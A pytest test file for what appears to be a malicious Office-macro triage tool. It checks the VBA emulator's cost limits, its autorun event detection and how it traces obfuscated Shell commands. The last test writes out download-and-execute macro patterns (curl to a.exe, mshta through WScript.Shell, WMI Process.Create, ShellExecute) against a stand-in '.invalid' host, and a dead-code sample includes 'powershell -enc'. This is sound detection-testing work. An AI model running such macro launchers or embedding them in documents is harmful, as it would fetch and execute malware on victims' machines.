"""Rows V09 to V11, V13 and V14 for the evaluation of macros: what is tried, and what must come back."""

import pytest

from emotriage import Level, Limits, scan
from emotriage.emulation.vba.host import Surroundings
from emotriage.emulation.vba.machine import run
from emotriage.emulation.vba.program import ModuleCode, Program
from emotriage.emulation.vba.source import read_source
from emotriage.emulation.vba.values import LONGEST
from emotriage.model.limits import Budget
from emotriage.testing import document, workbook

INERT = "emotriage-inert /quiet"


def look(code, name="order.doc", build=document, **more):
    return scan(build(macros={"Module1": code}, **more), name=name, plugins=[])


def evaluated(text):
    budget = Budget(Limits(work=1 << 36, seconds=600))
    program = Program([ModuleCode("Module1", "standard", read_source(text, budget))], budget)
    return run(program, [0], Surroundings(), budget), budget.work


def commands(verdict):
    return [one.value for one in verdict.indicators if one.kind == "command"]


PATTERNS = {
    "digits": ("x = ", "1.", ""),
    "at signs": ("x = ", "a@", ""),
    "parentheses": ("x = ", "(", "1"),
    "nested calls": ("x = ", "Chr(", "65"),
    "joined literals": ("x = ", '"a"&', '"b"'),
    "a long line": ("x = ", "abc + ", "1"),
    "hexadecimal digits": ('x = "', "4D5A", '"'),
    "continued lines": ("x = 1", " _\n", ""),
    "statements": ("", "x = x + 1: ", ""),
    "labels": ("", "a: GoTo a\n", ""),
    "conditions": ("", "If x Then ", ""),
    "loops": ("", "For i = 1 To 2\n", ""),
    "cases": ("Select Case 1\n", "Case 1, 2 To 3, Is > 4\n", "End Select"),
    "members": ("x = a", ".b(1)", ""),
    "arguments": ("x = f(", "1,", "1)"),
    "named arguments": ("f ", "a:=1,", "b:=2"),
    "signs": ("x = ", "-", "1"),
    "with": ("", "With a\n", ""),
    "dimensions": ("", "Dim a(1 To 2, 3)\n", ""),
    "brackets": ("x = ", "[A1]+", "1"),
    "enumerations": ("Private ", "Enum e\n", ""),
    "directives": ("", "#If a Then\n", ""),
    "prints": ("", 'Print #1, "a"; "b"\n', ""),
}


@pytest.mark.parametrize("name", PATTERNS)
def test_v09_work_grows_no_faster_than_the_code(name):
    before, unit, behind = PATTERNS[name]
    works = [evaluated(f"Sub AutoOpen()\n{before}{unit * count}{behind}\nEnd Sub\n")[1] for count in (1500, 3000)]
    assert works[1] <= 2.5 * works[0]


@pytest.mark.parametrize(
    "nest",
    [
        lambda n: "Shell " + '"a" & (' * n + '"b"' + ")" * n,
        lambda n: "Shell " + "StrReverse(" * n + '"ab"' + ")" * n,
        lambda n: "x = " + "(1 Xor " * n + "2" + ")" * n + "\nShell Chr(65 + (x And 1))",
    ],
)
def test_v10_nests_of_ten_thousand_are_undone_without_recursion(nest):
    done, _ = evaluated(f"Sub AutoOpen()\n{nest(10_000)}\nEnd Sub\n")
    assert [one.kind for one in done.effects] == ["start"]
    done, _ = evaluated(f"Sub AutoOpen()\nShell F(1)\nEnd Sub\nFunction F(n)\nF = F(n + 1)\n{nest(50)}\nEnd Function\n")
    assert done.effects


def test_v10_steps_end_in_a_gap_and_what_came_before_is_kept():
    code = f'Sub AutoOpen()\nShell "{INERT}"\nDo\nWork\nLoop\nEnd Sub\nSub Work()\nx = Chr(65)\nEnd Sub\n'
    verdict = look(code)
    assert not verdict.complete
    assert "vba.unfinished" in {one.rule for one in verdict.gaps}
    assert INERT in commands(verdict)


@pytest.mark.parametrize("growth", ["s = s & s", "s = s + s", 's = Replace(s, "x", "xx")', "s = Join(Array(s, s), s)"])
def test_v11_a_text_that_grows_by_itself_is_cut(growth):
    code = f'Sub AutoOpen()\ns = "x"\nFor i = 1 To 60\n{growth}\nNext\nShell "{INERT}"\nEnd Sub\n'
    done, work = evaluated(code)
    assert [one.what for one in done.effects] == [INERT]
    assert work < 1 << 30
    assert all(len(one.what) <= LONGEST for one in done.effects)


def test_v11_a_text_that_was_cut_is_a_gap():
    verdict = look(f'Sub AutoOpen()\ns = "x"\nFor i = 1 To 60\ns = s & s\nNext\nShell "{INERT}"\nEnd Sub\n')
    assert "vba.unfinished" in {one.rule for one in verdict.gaps}
    assert INERT in commands(verdict)


@pytest.mark.parametrize(
    "event",
    [
        "Frame1_Layout()",
        "InkPicture1_Painted(ByVal hDC As Long)",
        "Image1_MouseMove(ByVal Button As Integer)",
        "Document_ContentControlOnEnter(ByVal ContentControl As ContentControl)",
        "Document_ContentControlOnExit(ByVal ContentControl As ContentControl, Cancel As Boolean)",
        "Browser1_BeforeNavigate2(ByVal pDisp As Object)",
        "Box1_GotFocus()",
        "RibbonLoaded(ribbon As IRibbonUI)",
    ],
)
def test_v13_what_an_event_nobody_looks_for_starts(event):
    code = f'Private Sub {event}\n Shell StrReverse("{INERT[::-1]}")\nEnd Sub\n'
    verdict = scan(document(macros={"ThisDocument": code}), name="order.doc", plugins=[])
    assert INERT in commands(verdict)
    assert verdict.level >= Level.SUSPICIOUS


def test_v13_a_button_is_no_start():
    code = f'Private Sub Button1_Click()\n Shell StrReverse("{INERT[::-1]}")\nEnd Sub\n'
    verdict = scan(document(macros={"ThisDocument": code}), name="order.doc", plugins=[])
    assert INERT not in commands(verdict)
    assert "vba.autorun" not in {one.rule for one in verdict.findings}


@pytest.mark.parametrize("kind", ["xls", "xlsm"])
def test_v14_cells_and_properties_come_with_their_place(kind):
    code = 'Sub Auto_Open()\n Shell [Data!C3] & ActiveWorkbook.BuiltinDocumentProperties("Comments")\nEnd Sub\n'
    cells = {"Data": {"C3": "emotriage-"}}
    properties = {"comments": "inert /quiet"}
    verdict = look(code, f"order.{kind}", workbook, format=kind, sheets=cells, properties=properties)
    (one,) = [one for one in verdict.indicators if one.kind == "command"]
    assert (one.value, one.origin, one.where) == (INERT, "emulated", "Module1:3")


@pytest.mark.parametrize(
    ("kind", "build", "asked", "more"),
    [
        ("xls", workbook, 'Range("B2").Comment.Text', {"comments": {"Sheet1": {"B2": INERT}}}),
        (
            "xls",
            workbook,
            'ActiveSheet.Shapes("Box").AlternativeText',
            {"shapes": {"Sheet1": [{"name": "Box", "description": INERT}]}},
        ),
        (
            "doc",
            document,
            'ActiveDocument.Shapes("Box").TextFrame.TextRange.Text',
            {"shapes": [{"name": "Box", "text": INERT}]},
        ),
        (
            "doc",
            document,
            "ActiveDocument.InlineShapes(1).AlternativeText",
            {"shapes": [{"inline": True, "description": INERT}]},
        ),
    ],
)
def test_v14_comments_and_shapes_come_with_their_place(kind, build, asked, more):
    code = f"Sub {'Auto_Open' if kind == 'xls' else 'AutoOpen'}()\n Shell {asked}\nEnd Sub\n"
    verdict = look(code, f"order.{kind}", build, format=kind, **more)
    (one,) = [one for one in verdict.indicators if one.kind == "command"]
    assert (one.value, one.origin, one.where) == (INERT, "emulated", "Module1:3")


DEAD = 'Sub Never()\n Shell StrReverse("{text}")\n x = "powershell -enc"\nEnd Sub\n'


def test_dead_code_neither_helps_nor_harms():
    live = 'Sub AutoOpen()\n MsgBox "Welcome"\nEnd Sub\n'
    alone, beside = look(live), look(live + DEAD.format(text=INERT[::-1]))
    assert alone.level == Level.CLEAN
    assert beside.level < Level.SUSPICIOUS
    assert INERT not in commands(beside)
    attack = f'Sub AutoOpen()\n Shell StrReverse("{INERT[::-1]}")\nEnd Sub\n'
    alone, beside = look(attack), look(attack + DEAD.format(text="none"))
    assert beside.score >= alone.score


@pytest.mark.parametrize(
    "start",
    [
        'Shell "cmd /c curl {url} -o a.exe"',
        'CreateObject("WScript.Shell").Run StrReverse("{back}")',
        'GetObject("winmgmts:Win32_Process").Create Replace("{junk}", "##", "")',
        'x = "{url}"\n CreateObject("Shell.Application").ShellExecute "mshta", x',
    ],
)
def test_what_starts_by_itself_and_runs_what_it_fetches_is_malicious(start):
    url = "http://emotriage-inert.invalid/a"
    command = f"mshta {url}"
    body = start.format(url=url, back=command[::-1], junk="##".join(command))
    assert look(f"Sub AutoOpen()\n {body}\nEnd Sub\n").level == Level.MALICIOUS
